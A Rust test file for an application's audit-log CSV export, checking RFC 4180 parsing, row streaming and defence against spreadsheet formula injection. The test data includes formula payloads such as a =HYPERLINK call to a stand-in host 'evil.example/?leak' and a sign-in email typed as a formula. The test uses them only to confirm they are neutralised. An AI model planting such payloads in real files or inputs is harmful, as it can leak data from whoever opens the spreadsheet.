//! The CSV export: RFC 4180, safe against formula injection, and every row of a large log.

use super::*;

/// A strict RFC 4180 reader: CRLF record ends, quotes only around whole fields.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    let mut was_quoted = false;
    while let Some(c) = chars.next() {
        if quoted {
            if c == '"' {
                if chars.peek() == Some(&'"') {
                    chars.next();
                    cell.push('"');
                } else {
                    quoted = false;
                }
            } else {
                cell.push(c);
            }
            continue;
        }
        match c {
            '"' => {
                assert!(cell.is_empty() && !was_quoted, "stray quote in {cell:?}");
                quoted = true;
                was_quoted = true;
            }
            ',' => {
                record.push(std::mem::take(&mut cell));
                was_quoted = false;
            }
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "bare CR outside quotes");
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
                was_quoted = false;
            }
            '\n' => panic!("bare LF outside quotes"),
            other => {
                assert!(!was_quoted, "text after a closing quote");
                cell.push(other);
            }
        }
    }
    assert!(
        !quoted && cell.is_empty() && record.is_empty(),
        "ends with CRLF"
    );
    records
}

async fn csv_export_is_rfc4180_and_injection_safe(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let dangerous = [
        "=HYPERLINK(\"http://evil.example/?leak\",\"click me\")",
        "+1",
        "-1",
        "@SUM(1)",
        "\tTAB",
        "\rCR",
    ];
    let mut events: Vec<Event> = dangerous
        .iter()
        .map(|label| {
            Event::new(
                Actor {
                    user_id: None,
                    label: (*label).to_string(),
                },
                "csv.test",
                Outcome::Denied,
            )
            .target("note", "-2")
        })
        .collect();
    let awkward = "comma, \"quoted\"\r\nand a new line";
    events.push(
        Event::new(
            Actor {
                user_id: None,
                label: awkward.into(),
            },
            "csv.test",
            Outcome::Success,
        )
        .details(json!({ "note": "a,b" })),
    );
    record(&app, &events);
    // A failed sign-in typed as a formula.
    let (browser, _) = app.new_browser();
    let formula_email = "=HYPERLINK(\"http://evil.example\")";
    assert_eq!(
        app.login_with(&browser, formula_email, "whatever password")
            .await
            .status(),
        401
    );
    app.sign_in_as("auditor").await;
    let before = app.audit_actions().len();

    let res = app.get("/admin/audit.csv").await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "text/csv; charset=utf-8");
    let disposition = res.headers()["content-disposition"].to_str().unwrap();
    assert!(
        regex::Regex::new(r#"^attachment; filename="medport-audit-\d{8}-\d{6}\.csv"$"#)
            .unwrap()
            .is_match(disposition),
        "{disposition}"
    );
    let text = res.text().await.unwrap();
    let records = parse_csv(&text);
    assert_eq!(
        records[0],
        [
            "id",
            "occurred_at_utc",
            "actor_user_id",
            "actor",
            "action",
            "outcome",
            "target_type",
            "target_id",
            "ip",
            "request_id",
            "details",
            "prev_hash",
            "hash"
        ]
    );
    assert_eq!(records.len() - 1, before, "every event before the export");
    assert!(records[1..].iter().all(|r| r.len() == 13));
    let test_rows: Vec<&Vec<String>> = records.iter().filter(|r| r[4] == "csv.test").collect();
    assert_eq!(test_rows.len(), dangerous.len() + 1);
    for (row, label) in test_rows.iter().zip(dangerous) {
        assert_eq!(row[3], format!("'{label}"), "actor cell neutralised");
        assert_eq!(row[7], "'-2", "target cell neutralised");
    }
    let plain = test_rows[dangerous.len()];
    assert_eq!(plain[3], awkward, "quotes, commas and line breaks survive");
    assert_eq!(plain[10], r#"{"note":"a,b"}"#);
    let failed = records
        .iter()
        .find(|r| r[4] == "login" && r[10].contains("evil.example"))
        .expect("failed sign-in exported");
    assert!(failed[10].starts_with('{'));
    for row in &records[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "unsafe cell {cell:?}"
            );
        }
    }

    let exports: Vec<_> = app
        .audit_actions()
        .into_iter()
        .filter(|a| a.0 == "audit.export")
        .collect();
    assert_eq!(exports.len(), 1);
    let details: serde_json::Value = serde_json::from_str(&exports[0].2).unwrap();
    assert_eq!(details["rows"], before);
    assert_eq!(details["filters"], json!({}));

    // The same filters as the page.
    let res = app
        .get("/admin/audit.csv?action=csv.test&outcome=denied")
        .await;
    let records = parse_csv(&res.text().await.unwrap());
    assert_eq!(records.len() - 1, dangerous.len());
    let exports: Vec<_> = app
        .audit_actions()
        .into_iter()
        .filter(|a| a.0 == "audit.export")
        .collect();
    let details: serde_json::Value = serde_json::from_str(&exports[1].2).unwrap();
    assert_eq!(details["rows"], dangerous.len());
    assert_eq!(
        details["filters"],
        json!({"action": "csv.test", "outcome": "denied"})
    );

    let res = app.get("/admin/audit.csv?from=yesterday").await;
    assert_eq!(res.status(), 400);
    assert!(
        res.text()
            .await
            .unwrap()
            .contains("From date must be a date written YYYY-MM-DD")
    );
}

async fn large_exports_stream_every_row(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let events: Vec<Event> = (0..2100)
        .map(|i| {
            Event::new(Actor::system(), "bulk.export", Outcome::Success).details(json!({ "n": i }))
        })
        .collect();
    record(&app, &events);
    app.sign_in_as("auditor").await;
    let text = app
        .get("/admin/audit.csv?action=bulk.export")
        .await
        .text()
        .await
        .unwrap();
    let records = parse_csv(&text);
    assert_eq!(records.len(), 2101);
    let ns: Vec<String> = records[1..].iter().map(|r| r[10].clone()).collect();
    let expected: Vec<String> = (0..2100).map(|i| format!(r#"{{"n":{i}}}"#)).collect();
    assert_eq!(ns, expected, "every row once, oldest first");
}

both_backends!(
    csv_export_is_rfc4180_and_injection_safe,
    large_exports_stream_every_row,
);
